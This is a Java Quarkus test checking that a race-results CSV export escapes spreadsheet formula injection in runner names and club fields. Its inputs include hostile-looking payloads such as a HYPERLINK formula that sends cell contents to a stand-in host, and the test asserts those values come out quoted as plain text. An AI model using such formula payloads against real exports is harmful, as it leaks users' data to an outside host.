package fr.pyramidesnoires.results.ranking;

import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertTrue;

import fr.pyramidesnoires.events.EntryEvent;
import fr.pyramidesnoires.events.RunnerTiming;
import fr.pyramidesnoires.events.Topics;
import fr.pyramidesnoires.events.testing.Eventually;
import fr.pyramidesnoires.events.testing.TopicProbe;
import io.quarkus.test.junit.QuarkusTest;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.UUID;
import org.junit.jupiter.api.Test;

/** The official results file is opened in spreadsheets: what a runner typed must never run there. */
@QuarkusTest
class ResultsCsvTest {

    static final Instant GUN = Instant.parse("2027-03-20T08:00:00Z");
    static TopicProbe kafka() {
        return TopicProbe.shared();
    }

    @Test
    void aNameOrClubThatLooksLikeAFormulaStaysText() {
        String race = "CSV" + UUID.randomUUID().toString().substring(0, 6).toUpperCase();
        finisher(race, 1, "Ann", "=HYPERLINK(\"http://x.example/?\"&A1)", "+cmd", "PT3H");
        finisher(race, 2, "Bea", "Arnaud", "@SUM(A1)", "PT3H10M");
        finisher(race, 3, "Cléo", "Brunet", "-2+3", "PT3H20M");
        finisher(race, 4, "Dan", "Carre", "\tTab", "PT3H30M");
        finisher(race, 5, "Eve", "Dumont", "Lens\rLiévin", "PT3H40M");

        String csv = Eventually.until(() -> given().when().get("/races/" + race + "/results.csv").asString(),
                body -> body.split("\n").length == 6, Duration.ofSeconds(20), body -> "never all five: " + body);

        assertTrue(csv.contains(
                "\n1;1;\"'=HYPERLINK(\"\"HTTP://X.EXAMPLE/?\"\"&A1) Ann\";SE-F;'+cmd;FRA;FINISHED;3:00:00\n"), csv);
        assertTrue(csv.contains("\n2;2;ARNAUD Bea;SE-F;'@SUM(A1);FRA;"), csv);
        assertTrue(csv.contains("\n3;3;BRUNET Cléo;SE-F;'-2+3;FRA;"), csv);
        assertTrue(csv.contains("\n4;4;CARRE Dan;SE-F;'\tTab;FRA;"), csv);
        // a lone CR ends a line in some spreadsheets: the cell is quoted, so the line goes on
        assertTrue(csv.contains("\n5;5;DUMONT Eve;SE-F;\"Lens\rLiévin\";FRA;FINISHED;3:40:00\n"), csv);
    }

    private static void finisher(String race, int bib, String first, String last, String club, String time) {
        String id = UUID.randomUUID().toString();
        kafka().send(Topics.ENTRIES, id, new EntryEvent(EntryEvent.Type.UPSERTED, id, race, bib, "X" + race + bib,
                first, last, false, EntryEvent.Sex.F, "SE", club, "FRA", Instant.now()));
        long ms = Duration.parse(time).toMillis();
        RunnerTiming timing = new RunnerTiming(race, bib, RunnerTiming.Status.FINISHED, GUN, List.of(
                new RunnerTiming.Passage(0, "start", "Départ", 0, GUN),
                new RunnerTiming.Passage(1, "finish", "Arrivée", 12, GUN.plusMillis(ms))), ms, ms);
        kafka().send(Topics.RUNNER_TIMINGS, timing.key(), timing);
    }
}
